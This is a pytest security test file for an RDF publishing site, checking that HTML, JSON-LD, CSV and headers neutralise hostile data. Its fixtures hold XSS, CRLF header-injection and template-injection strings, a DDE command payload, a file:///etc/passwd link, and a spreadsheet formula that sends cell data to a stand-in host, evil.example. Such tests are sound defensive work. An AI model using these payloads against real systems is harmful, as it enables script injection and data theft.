"""Words that mean harm come out as words, in every format of every answer."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from io import StringIO
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from pyoxigraph import Literal, NamedNode, Triple

from crawling import SYNTAXES, canonical, triples
from pfgraph.namespaces import GRAPH, ID, OWL, PF, RDF, RDFS, SKOS, XSD, expand
from pfgraph.web import rows, schema_org
from sites import Client, publish, serving
from test_pages import Page

SCRIPT = "</script><script>alert(1)</script><!--"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|'/C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1", "＝1+1"]
WORDS = {
    "script": SCRIPT,
    "attribute": '" onmouseover="alert(1)" x="',
    "template": "{{ 7919 * 7907 }}{% raw %}",
    "override": "\u202etxt.exe\u2066",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "null-like": "\u2028\u2029\ufeff]]>",
    "entity": "&lt;script&gt;&#x3c;",
    **{f"formula-{n}": text for n, text in enumerate(FORMULAS)},
}
LINKS = ["javascript:alert(1)", "data:text/html,<x>".replace("<x>", "x"), "vbscript:x", "file:///etc/passwd"]
THING, PLATFORM = ID["thing/hostile"], ID["platform/999999-1"]
TERM = PF["Hostile"]


def seeded() -> dict[str, list[Triple]]:
    """Return graphs in which every kind of word stands in every kind of place."""
    found = [
        Triple(THING, RDF.type, PF.SupportService),
        Triple(THING, PF.stage, expand("stage:existing")),
        Triple(PLATFORM, RDF.type, PF.Platform),
        Triple(PLATFORM, PF.platformStatus, expand("stage:existing")),
        Triple(expand("stage:existing"), SKOS.prefLabel, Literal(SCRIPT, language="ja")),
        Triple(TERM, RDF.type, OWL.Class),
        Triple(TERM, RDFS.label, Literal(SCRIPT, language="ja")),
        Triple(TERM, SKOS.definition, Literal(SCRIPT, language="en")),
        Triple(NamedNode(str(PF).removesuffix("#")), RDF.type, OWL.Ontology),
        Triple(ID["concept/hostile"], RDF.type, SKOS.ConceptScheme),
    ]
    for key, text in WORDS.items():
        each = ID[f"thing/{key}"]
        found += [
            Triple(each, RDFS.label, Literal(text, language="ja")),
            Triple(each, SKOS.inScheme, ID["concept/hostile"]),
            Triple(each, SKOS.definition, Literal(text, language="ja")),
            Triple(THING, RDFS.label, Literal(text, language="ja")),
            Triple(THING, RDFS.comment, Literal(text)),
            Triple(THING, RDFS.seeAlso, each),
            Triple(PLATFORM, RDFS.label, Literal(text, language="en")),
            Triple(each, OWL.deprecated, Literal(value=key == "header")),
            Triple(each, SKOS.changeNote, Literal(text, language="en")),
        ]
    found += [Triple(THING, RDFS.seeAlso, NamedNode(link)) for link in LINKS]
    found += [Triple(THING, RDF.type, NamedNode("http://evil.example/型?a=b,c;d"))]
    found += [Triple(THING, PF.count, Literal("-5", datatype=XSD.integer))]
    return {GRAPH["data/x"].value: found, GRAPH["ontology/pfgraph"].value: found[5:9]}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Client]:
    """Lend a client of a site whose words and IRIs mean harm."""
    home = tmp_path_factory.mktemp("hostile")
    publish(home, seeded())
    with serving(home) as client:
        yield client


SELECT = "SELECT ?s ?o { ?s ?p ?o } ORDER BY ?s ?o"
DOCUMENTS = ["/doc/thing/hostile", "/doc/platform/999999-1", "/graph/data/x", "/ns", "/ns/Hostile", "/doc/thing/script"]
PAGES = [
    *DOCUMENTS,
    *(f"/doc/thing/{key}" for key in WORDS),
    *("/", "/doc/concept/hostile", f"/sparql?query={quote(SELECT)}", f"/sparql?query={quote(SCRIPT)}", "/collections"),
    *(f"/doc/{quote(SCRIPT, safe='')}", f"/{quote(SCRIPT, safe='')}", f"/queries/{quote(SCRIPT, safe='')}"),
    *(f"/cite?query={quote(SCRIPT)}", f"/doc/thing/hostile?page={quote(SCRIPT)}", "/releases"),
]


def scripts(text: str) -> list[str]:
    """Return what stands in the script elements of a page."""
    return re.findall(r"<script[^>]*>(.*?)</script>", text, re.DOTALL | re.IGNORECASE)


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize("language", ["ja", "en"])
def test_pages_have_no_markup_but_ours(hostile: Client, path: str, language: str) -> None:
    """No word becomes an element, an attribute that does something, or a link that is none."""
    text = hostile.get(path, "text/html", headers={"Accept-Language": language}).text
    found = Page(text)
    links = {urlsplit(attributes.get("href", "")).scheme for _, attributes in found.tags}

    assert found.open == []
    assert all(script == {"type": "application/ld+json"} for script in found.all("script"))
    assert not [name for _, attributes in found.tags for name in attributes if name.startswith("on")]
    assert not found.all("img")
    assert links <= {"", "http", "https"}
    assert "{{ 7919 * 7907 }}" in text or "62615533" not in text


@pytest.mark.parametrize("path", PAGES)
def test_data_in_pages_stays_data(hostile: Client, path: str) -> None:
    """What search engines read parses as JSON, and holds no character that HTML could take for markup."""
    found = scripts(hostile.get(path, "text/html").text)

    assert all(json.loads(each) for each in found)
    assert not [each for each in found if re.search("[<>&\u2028\u2029]", each)]


@pytest.mark.parametrize("path", DOCUMENTS)
def test_every_format_still_says_it_all(hostile: Client, path: str) -> None:
    """Harmless does not mean changed: all formats of a document are the same graph, to the character."""
    context = hostile.get("/context/v1.jsonld").json()
    bodies = {kind: hostile.get(path, kind).content for kind in SYNTAXES}
    said = [canonical(triples(body, kind, context)) for kind, body in bodies.items()]

    assert all(each == said[0] for each in said)


@pytest.mark.parametrize("path", DOCUMENTS)
def test_a_table_holds_no_formula(hostile: Client, path: str) -> None:
    """No cell of a document as CSV is one that a spreadsheet program would run."""
    text = hostile.get(path, "text/csv").content.decode()
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]

    assert not [cell for cell in cells if re.match(r"[=+\-@＝＋－＠\t\r\n]", cell) and not re.fullmatch(r"-?\d+", cell)]


@pytest.mark.parametrize("text", [*WORDS.values(), "'=1", "-5", "'", "", "普通の文"])
def test_a_guarded_cell_can_be_read_back(text: str) -> None:
    """What is put in front of a cell can be taken away again, whatever stood in it."""
    (read,) = rows.read(rows.written([Triple(THING, RDFS.comment, Literal(text))]).decode())

    assert read.object == Literal(text)


def test_a_result_for_spreadsheets_holds_no_formula(hostile: Client) -> None:
    """The CSV that is meant for spreadsheet programs is guarded as well."""
    text = hostile.get(f"/sparql?query={quote(SELECT)}&format=excel").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]

    assert not [cell for cell in cells if re.match(r"[=+\-@＝＋－＠\t\r\n]", cell) and not re.fullmatch(r"-?\d+", cell)]
    assert "'@SUM(1)" in cells


@pytest.mark.parametrize("size", [1, 2, 7, 4096])
def test_a_table_is_guarded_piece_by_piece(size: int) -> None:
    """However a long answer is cut into pieces, its cells are guarded, and nothing else is changed."""
    text = b'a,b\r\n"=1\r\n+1",-5\r\n\r\n"ja ""x"", y",@A\r\n'
    guard = rows.Guard()
    pieces = [guard.add(text[start : start + size]) for start in range(0, len(text), size)]

    assert b"".join([*pieces, guard.end()]) == text.replace(b'"=1', b"\"'=1").replace(b"@A", b"'@A")


def test_a_result_for_programs_is_exact(hostile: Client) -> None:
    """The CSV of the SPARQL specification says what the data says: nothing is put in front of it."""
    text = hostile.get(f"/sparql?query={quote(SELECT)}&format=csv").content.decode()

    assert "@SUM(1)" in [cell for row in csv.reader(StringIO(text, newline="")) for cell in row]


HEADERS = ["/doc/thing/hostile", "/doc/thing/header", "/graph/data/x", "/doc/a%0d%0aSet-Cookie:%20a=b", "/id/%0d%0aX:1"]


@pytest.mark.parametrize("path", HEADERS)
@pytest.mark.parametrize("accept", ["text/html", "text/turtle", "application/ld+json"])
def test_headers_stay_headers(hostile: Client, path: str, accept: str) -> None:
    """No word of the data or of the address begins a header, and every header is ASCII."""
    response = hostile.get(path, accept)

    assert "set-cookie" not in response.headers
    assert "x" not in response.headers
    assert all(value.isascii() and "\r" not in value for value in response.headers.values())


@pytest.mark.parametrize("accept", ["text/html", *SYNTAXES])
def test_a_browser_never_guesses(hostile: Client, accept: str) -> None:
    """Every format is served under its own type, which no browser is to second-guess, and loads nothing."""
    response = hostile.get("/doc/thing/hostile", accept)

    assert response.headers["content-type"].startswith(accept)
    assert response.headers["x-content-type-options"] == "nosniff"


def test_the_policy_lets_no_inline_script_run(hostile: Client) -> None:
    """Scripts come from this host only: nothing inline, no eval, no plug-in, no frame."""
    policy: dict[str, Any] = dict(
        each.strip().split(" ", 1)
        for each in hostile.get("/doc/thing/hostile", "text/html").headers["content-security-policy"].split(";")
    )

    assert policy["script-src"] == "'self'"
    assert policy["object-src"] == policy["frame-ancestors"] == policy["base-uri"] == "'none'"


def test_embedded_data_escapes_markup() -> None:
    """A script element that holds data cannot be ended from within."""
    assert str(schema_org.script({"name": SCRIPT})).count("<") == 0
    assert json.loads(schema_org.script({"name": SCRIPT})) == {"name": SCRIPT}
